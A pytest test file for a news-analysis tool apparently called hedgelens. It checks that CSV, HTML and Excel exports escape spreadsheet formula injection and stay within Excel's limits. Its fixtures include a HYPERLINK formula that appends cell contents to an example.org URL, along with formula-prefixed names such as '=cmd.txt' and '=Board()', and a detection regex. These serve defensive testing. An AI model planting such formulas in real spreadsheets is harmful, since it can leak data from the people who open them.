"""Tables of hostile articles and names: nothing that a spreadsheet would run, nothing that it cannot hold."""

from __future__ import annotations

import csv
import io
import json
import re

import drafts
import pytest
from drafts import Draft
from openpyxl import load_workbook
from sheet.sheets import Sheet

from hedgelens import Collection
from hedgelens.collection import Columns
from hedgelens.records import HedgeLensError
from hedgelens.sheet import read_sheet, write_sheet, writing
from hedgelens.views.tables import common_to_csv

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"More")'
TEXT = f"""{FORMULA} perhaps clearly showed it, the mayor said.

@HarborOffice said that forty boats may have sunk. @HarborOffice said that fifty boats may have sunk.

-Perhaps not, she allegedly said.
"""
RUNS = re.compile(r"""^[\s"']*[=+\-@＝＋－＠]|^[\t\r\n]""")


@pytest.fixture
def article(tmp_path):
    path = tmp_path / "=cmd.txt"
    path.write_text(TEXT, encoding="utf-8")
    return path


def cells(text):
    """The cells of a CSV text that are no numbers."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len({len(row) for row in rows}) == 1
    return [cell for row in rows for cell in row if not re.fullmatch(r"-?[\d.]+(e-?\d+)?", cell)]


def check(text, raw_text):
    """Checks that no cell runs, and that the raw table differs from it by apostrophes only."""
    harmless, raw = cells(text), cells(raw_text)
    assert not [cell for cell in harmless if RUNS.match(cell) and not cell.startswith("'")]
    assert [cell for cell in raw if RUNS.match(cell)]
    assert harmless == [f"'{cell}" if RUNS.match(cell) else cell for cell in raw]


@pytest.mark.parametrize(
    "command",
    [
        *(
            ["analyze", "ARTICLE", "--table", table]
            for table in ("summary", "sentences", "attributions", "hedges", "sources", "owners")
        ),
        ["report", "ARTICLE"],
        ["concordance", "boats", "ARTICLE"],
        ["contrasts", "ARTICLE"],
    ],
    ids=" ".join,
)
def test_no_cell_of_a_command_runs(command_line, article, command):
    arguments = [article if word == "ARTICLE" else word for word in command]
    engine = [] if command[0] == "contrasts" else ["--engine", "rules"]
    code, out, err = command_line(*arguments, *engine, "--format", "csv")
    assert code == 0, err
    check(out, command_line(*arguments, *engine, "--format", "csv", "--raw-cells")[1])


def test_no_cell_about_corrections_or_coders_runs(command_line, tmp_path):
    sheet = Sheet(coded(tmp_path / "one.xlsx"))
    sheet.set("Sources", "s1", "name", "@Harbor")
    sheet.set("Attributions", "a1", "source", "@Harbor")
    sheet.sign("=Ada", "2026-05-31")
    sheet.save()
    other = Sheet(coded(tmp_path / "other.xlsx"))
    other.set("Hedges", "h1", "category", "adaptor")
    other.sign("+Teo", "2026-05-31")
    other.save()
    for command in (
        ("import-sheet", "one.xlsx", "--table", "corrections"),
        ("import-sheet", "one.xlsx", "--table", "sources"),
        ("agree", "one.xlsx", "other.xlsx", "--table", "disagreements"),
    ):
        code, out, err = command_line(*command, "--format", "csv")
        assert code == 0, err
        check(out, command_line(*command, "--format", "csv", "--raw-cells")[1])


def coded(path):
    """Writes the sheet of an article and returns its path."""
    write_sheet(drafts.small(), path)
    return path


def test_no_cell_of_a_batch_runs(command_line, article, tmp_path):
    (tmp_path / "in").mkdir()
    article.rename(tmp_path / "in" / article.name)
    assert command_line("report", "--batch", "in", "-o", "out", "--engine", "rules")[0] == 0
    assert command_line("report", "--batch", "in", "-o", "raw", "--engine", "rules", "--raw-cells")[0] == 0
    for name in ("articles.csv", "summary.csv"):
        check(*((tmp_path / folder / name).read_bytes().decode("utf-8") for folder in ("out", "raw")))


def test_no_name_of_a_source_that_dominates_runs():
    draft = Draft("The Board says rain.")
    draft.says(draft.source("=Board()", kind="organisation", groups=["@boards"]), "says", "rain")
    check(common_to_csv([draft.done()]), common_to_csv([draft.done()], raw=True))


def test_the_table_that_a_page_copies_does_not_run(command_line, article, tmp_path):
    assert command_line("report", article, "-o", "page.html", "--engine", "rules")[0] == 0
    page = (tmp_path / "page.html").read_text(encoding="utf-8")
    details = json.loads(re.search(r'<script type="application/json" id="details">(.*?)</script>', page, re.DOTALL)[1])
    assert "'@HarborOffice" in details["csv"]
    check(details["csv"], details["csv"].replace("'", ""))


def test_tables_of_the_library_have_the_option_and_frames_stay_raw(article):
    collection = Collection.analyze([article], engine="rules")
    for found in (collection, collection[0]):
        check(found.to_csv(table="sentences"), found.to_csv(table="sentences", raw=True))
    assert any(text.startswith("=") for text in collection.table("sentences")["text"])


def test_a_table_reads_back_as_articles(article, tmp_path):
    table = tmp_path / "table.csv"
    Collection.analyze([article], engine="rules").to_csv(table, table="sentences")
    again = Collection.analyze(table, columns=Columns(id="index"), engine="rules")
    assert [a.article.text[0] for a in again] == ["'", "'", "'", "'"]


def test_lines_of_json_are_lines_to_everybody(command_line, tmp_path):
    path = tmp_path / "sea\u2028port\x85.txt"
    path.write_text("The mayor said that\u2028it may rain.\x85 It did\x0bnot.\n", encoding="utf-8")
    code, out, _ = command_line("analyze", path, path, "--engine", "rules", "--format", "jsonl")
    assert code == 0
    assert [json.loads(line)["article"]["id"] for line in out.splitlines()] == [r"sea\u2028port\x85"]


def units(text):
    """The length of a text as Excel counts it."""
    return len(text.encode("utf-16-le")) // 2


def long_draft(filling):
    """An analysis of which a sentence, a content and the name of a source hold a filling."""
    d = Draft(f"Ann says that {filling} rose.\nIt fell.")
    d.says(d.source(f"Ann {filling}"), "says", f"that {filling} rose", who="Ann")
    d.hedge("fell", "adaptor")
    return d.done()


@pytest.mark.parametrize(
    "filling",
    [
        "🚢" * 20_000,
        "x" * 40_000,
        "🚢x" * 12_000,
        "x" * 31_990 + "🚢" * 9,
        "_x0041_ _x005F_x0041_",
        "\x00\x1b\x9f\ud83d\ufffe",
        "_x000D_\n" * 9,
    ],
    ids=["emoji", "letters", "both", "cut within one", "codes of characters", "unwritable", "codes of line ends"],
)
def test_a_coding_sheet_keeps_to_the_limits_of_excel_and_reads_back(tmp_path, filling):
    analysis = long_draft(filling)
    path = tmp_path / "sheet.xlsx"
    write_sheet(analysis, path)
    workbook = load_workbook(path)
    cells = [cell for page in workbook for row in page.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert max(units(cell.value) for cell in cells) <= 32_767
    assert not [cell for cell in cells if re.search("_x[0-9A-Fa-f]{4}_", cell.value)]
    assert all(len(page.title) <= 31 for page in workbook)
    read = read_sheet(path)
    assert read.analyses == (analysis,)
    assert read.changes == ()


def test_a_coding_sheet_of_too_many_rows_is_refused(tmp_path, monkeypatch):
    path = tmp_path / "sheet.xlsx"
    monkeypatch.setattr(writing, "MOST_ROWS", 40)
    with pytest.raises(HedgeLensError, match="Write several, of fewer articles each"):
        write_sheet(long_draft("it"), path)
    assert not path.exists()
